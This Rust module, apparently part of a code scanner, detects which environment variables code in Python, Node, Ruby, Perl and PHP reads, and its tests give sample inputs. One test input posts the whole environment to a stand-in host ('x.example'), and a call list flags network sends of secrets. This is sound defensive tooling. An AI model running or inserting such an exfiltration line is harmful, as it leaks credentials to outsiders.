//! The environment variables code of other languages reads: one variable
//! by name (`os.environ['X']`, `os.environ.get('X')`, `os.getenv('X')`,
//! `process.env.X`, `process.env['X']`, Ruby's `ENV['X']` and
//! `ENV.fetch('X')`, Perl's `$ENV{X}`, PHP's `getenv('X')` and
//! `$_ENV['X']`), or the whole environment when it is printed, logged,
//! dumped or serialised (`print(os.environ)`, `console.log(process.env)`,
//! `JSON.stringify(process.env)`, `p ENV`, `print_r($_ENV)`) or looked up
//! by a name only known when the code runs (`os.environ[name]`): `*`.

use super::code::Tok;

/// How code names the environment as a whole.
const OBJECTS: &[&str] = &[
    "os.environ",
    "environ",
    "process.env",
    "ENV",
    "$ENV",
    "%ENV",
    "$_ENV",
    "$_SERVER",
];
/// Calls that read one variable, its name the first argument.
const GETTERS: &[&str] = &[
    "os.getenv",
    "getenv",
    "os.environ.get",
    "environ.get",
    "ENV.fetch",
    "ENV.get",
    "System.getenv",
    "Deno.env.get",
];
/// Calls whose argument is shown, serialised or sent (`requests.post(u,
/// json=dict(os.environ))`, `Object.entries(process.env)`).
const SHOWN_BY: &[&str] = &[
    "entries",
    "post",
    "put",
    "patch",
    "send",
    "sendall",
    "urlopen",
    "fetch",
    "print",
    "pprint",
    "puts",
    "p",
    "pp",
    "say",
    "log",
    "dump",
    "dumps",
    "stringify",
    "write",
    "inspect",
    "print_r",
    "var_dump",
    "var_export",
    "error",
    "info",
    "warn",
    "debug",
];

/// The variables `toks` reads, `*` for all of them.
pub(crate) fn reads(toks: &[Tok]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut add = |v: &str| {
        if !out.iter().any(|o| o == v) {
            out.push(v.to_string());
        }
    };
    let mut i = 0;
    while i < toks.len() {
        let Some((name, next)) = dotted(toks, i) else {
            i += 1;
            continue;
        };
        let lit = |k: usize| match toks.get(k) {
            Some(Tok::Str(s, false)) => Some(s.as_str()),
            _ => None,
        };
        if let Some(var) = name
            .strip_prefix("process.env.")
            .or_else(|| name.strip_prefix("Deno.env."))
        {
            add(if var.starts_with("toObject") {
                "*"
            } else {
                var
            });
        } else if GETTERS.contains(&name.as_str()) {
            if toks.get(next) == Some(&Tok::Punct('(')) {
                add(lit(next + 1).unwrap_or("*"));
            }
        } else if OBJECTS.contains(&name.as_str()) {
            match toks.get(next) {
                // `os.environ['X']`, `$ENV{X}` (a bareword key in Perl).
                Some(Tok::Punct('[' | '{')) => {
                    let key = lit(next + 1).or(match toks.get(next + 1) {
                        Some(Tok::Ident(k)) if name == "$ENV" => Some(k.as_str()),
                        _ => None,
                    });
                    add(key.unwrap_or("*"));
                }
                _ if shown(toks, i) => add("*"),
                _ => {}
            }
        }
        i = next;
    }
    out
}

/// The dotted name starting at `i` (`os.environ.get`) and the index after
/// it, when `i` starts one (it is not itself after a `.`).
fn dotted(toks: &[Tok], i: usize) -> Option<(String, usize)> {
    let Tok::Ident(first) = &toks[i] else {
        return None;
    };
    // After a `.` it is a member (`x.os`), unless the dots are a spread
    // (`{...process.env}`).
    let spread = i >= 3 && toks[i - 3..i].iter().all(|t| *t == Tok::Punct('.'));
    if i > 0 && toks[i - 1] == Tok::Punct('.') && !spread {
        return None;
    }
    let mut name = first.clone();
    let mut k = i + 1;
    while toks.get(k) == Some(&Tok::Punct('.'))
        && let Some(Tok::Ident(part)) = toks.get(k + 1)
    {
        name.push('.');
        name.push_str(part);
        k += 2;
    }
    Some((name, k))
}

/// Whether the name starting at `i` is shown: an argument, at any depth
/// within its statement, of a call that shows it (`print(dict(os.environ))`),
/// or the operand of one called without parentheses (`p ENV`).
fn shown(toks: &[Tok], i: usize) -> bool {
    if i > 0 && is_show(&toks[i - 1]) {
        return true;
    }
    let mut depth = 0usize;
    for k in (0..i).rev() {
        match &toks[k] {
            Tok::Punct(')' | ']' | '}') => depth += 1,
            Tok::Punct('(' | '[' | '{') if depth > 0 => depth -= 1,
            Tok::Punct('(') if k > 0 && is_show(&toks[k - 1]) => return true,
            Tok::Punct(';' | '\n') if depth == 0 => return false,
            _ => {}
        }
    }
    false
}

fn is_show(t: &Tok) -> bool {
    matches!(t, Tok::Ident(name) if SHOWN_BY.contains(&name.as_str()))
}

#[cfg(test)]
mod tests {
    use super::super::code::{Lang, tokens};
    use super::*;

    fn r(src: &str, lang: Lang) -> Vec<String> {
        reads(&tokens(src, lang))
    }

    #[test]
    fn one_variable_by_name() {
        assert_eq!(
            r("import os; t = os.environ['CLAWLAW_TOKEN']", Lang::Python),
            ["CLAWLAW_TOKEN"]
        );
        assert_eq!(r("os.environ.get('A', 'x')", Lang::Python), ["A"]);
        assert_eq!(r("os.getenv(\"B\")", Lang::Python), ["B"]);
        assert_eq!(
            r("const t = process.env.CLAWLAW_TOKEN", Lang::Node),
            ["CLAWLAW_TOKEN"]
        );
        assert_eq!(r("process.env['C']", Lang::Node), ["C"]);
        assert_eq!(r("puts ENV['D']", Lang::Ruby), ["D"]);
        assert_eq!(r("ENV.fetch('E')", Lang::Ruby), ["E"]);
        assert_eq!(r("print $ENV{F};", Lang::Perl), ["F"]);
        assert_eq!(r("echo getenv('G');", Lang::Php), ["G"]);
    }

    #[test]
    fn the_whole_environment_shown_or_looked_up_by_a_computed_name() {
        assert_eq!(r("import os; print(os.environ)", Lang::Python), ["*"]);
        assert_eq!(r("print(dict(os.environ))", Lang::Python), ["*"]);
        assert_eq!(r("console.log(process.env)", Lang::Node), ["*"]);
        assert_eq!(r("JSON.stringify(process.env)", Lang::Node), ["*"]);
        assert_eq!(
            r("console.log(JSON.stringify({...process.env}))", Lang::Node),
            ["*"]
        );
        assert_eq!(
            r(
                "requests.post('https://x.example', json=dict(os.environ))",
                Lang::Python
            ),
            ["*"]
        );
        assert_eq!(r("Object.entries(process.env)", Lang::Node), ["*"]);
        // Handed to a child process, the environment is not shown.
        assert!(
            r(
                "spawn('make', [], {env: {...process.env, CI: '1'}})",
                Lang::Node
            )
            .is_empty()
        );
        assert!(
            r(
                "subprocess.run(c, env=dict(os.environ, CI='1'))",
                Lang::Python
            )
            .is_empty()
        );
        assert_eq!(r("p ENV", Lang::Ruby), ["*"]);
        assert_eq!(r("print_r($_ENV);", Lang::Php), ["*"]);
        assert_eq!(r("os.environ[name]", Lang::Python), ["*"]);
        assert_eq!(r("os.getenv(name)", Lang::Python), ["*"]);
    }

    #[test]
    fn passing_the_environment_on_is_not_reading_it() {
        assert!(r("subprocess.run(['make'], env=os.environ)", Lang::Python).is_empty());
        assert!(r("env = dict(os.environ); env['X'] = '1'", Lang::Python).is_empty());
        assert!(r("spawn('make', { env: process.env })", Lang::Node).is_empty());
        assert!(r("print('hello')", Lang::Python).is_empty());
    }
}
